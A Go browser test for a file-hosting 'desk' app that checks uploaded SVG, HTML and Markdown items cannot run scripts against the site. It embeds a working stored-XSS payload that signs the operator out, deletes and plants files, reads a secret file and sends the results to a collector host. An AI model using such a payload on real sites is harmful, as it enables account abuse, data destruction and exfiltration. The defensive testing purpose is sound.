//go:build browser

package browsertest

import (
	"strings"
	"testing"
)

// TestHostileItemsHaveNoEffect: a drawing, a page and a text whose scripts act on
// the desk, shown in their views, opened alone and at their plain addresses.
// Case B07. Red without the sandbox in the policy of web.Sandbox (alone, the
// script runs as the desk and signs the operator out), or with goldmark's
// WithUnsafe.
func TestHostileItemsHaveNoEffect(t *testing.T) {
	eachSite(t, func(t *testing.T, d *Desk) {
		c := collect(t)
		script := strings.NewReplacer("COLLECTOR", c.URL, "DESK", d.URL).Replace(`
(async () => {
  let got = [];
  for (const [m, p, body] of [["POST", "logout"], ["POST", "b/victim/delete"], ["DELETE", "b/victim/"], ["PUT", "b/victim/planted.txt", "x"], ["POST", "api/v1/sign-in-links"], ["GET", "api/v1/booths"], ["GET", "b/victim/secret.txt"]])
    await fetch("DESK" + p, { method: m, body, credentials: "include" }).then((r) => got.push(m + p + r.status), () => 0);
  try { localStorage.setItem("a", "b"); got.push("storage"); } catch {}
  await fetch("COLLECTOR/" + location.pathname.split("/").pop() + "?v=" + encodeURIComponent(got), { mode: "no-cors" });
})()`)
		d.Write("items", "drawing.svg", `<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><script><![CDATA[`+script+`]]></script><rect width="50" height="50"/></svg>`)
		d.Write("items", "page.html", `<!doctype html><title>x</title><script>`+script+`</script>`)
		d.Write("items", "text.md", "# Text\n\n<script>"+script+"</script>\n\n<iframe src=\""+d.URL+"\"></iframe>\n\n![x]("+c.URL+"/tracked.png)\n")
		d.Write("victim", "secret.txt", "the secret")
		before := d.tree()
		tab := signedIn(t, d)
		tab.Follow(linkTo(d, "b", "items", ""))

		tab.Follow(`.tile a[href$="drawing.svg"]`)
		tab.Until(`document.querySelector("img.picture").naturalWidth === 50`)
		if !strings.Contains(tab.Text(), "script in this picture") {
			t.Error("nothing is said about the script in the drawing")
		}
		if c.heard("drawing.svg") {
			t.Error("the script of a drawing ran in its view")
		}
		alone := Eval[string](tab, `[...document.querySelectorAll(".actions a")].find(a => a.textContent === "Open the file alone").href`)
		tab.Follow("a[rel=next]")
		says(t, losses(tab), "localStorage", `"POST"`, "api/v1/")
		if got := c.about("page.html"); got != "" {
			t.Errorf("in its view the page got %s", got)
		}
		tab.Follow("a[rel=next]")
		says(t, losses(tab), "HTML in it", "pictures from other sites")
		if n := Eval[int](tab, `document.querySelectorAll(".prose script, .prose iframe").length`); n > 0 {
			t.Error("tags of the text are on the desk's page")
		}
		for _, address := range []string{alone, d.URL + "b/items/drawing.svg", d.URL + "b/items/page.html"} {
			name := address[strings.LastIndex(address, "/")+1:]
			c.forget(name)
			tab.Open(address)
			if got := c.about(name); got != "" {
				t.Errorf("%s got %s", address, got)
			}
		}
		if c.heard("tracked.png") {
			t.Error("a text had a picture fetched from elsewhere")
		}
		tab.Open(d.URL)
		if !strings.Contains(tab.Text(), "signed in as") {
			t.Error("the operator was signed out")
		}
		if after := d.tree(); !equal(before, after) {
			t.Errorf("the booths have changed: %q", after)
		}
		if d.viewed("victim") {
			t.Error("an item left a view on another booth")
		}
	})
}
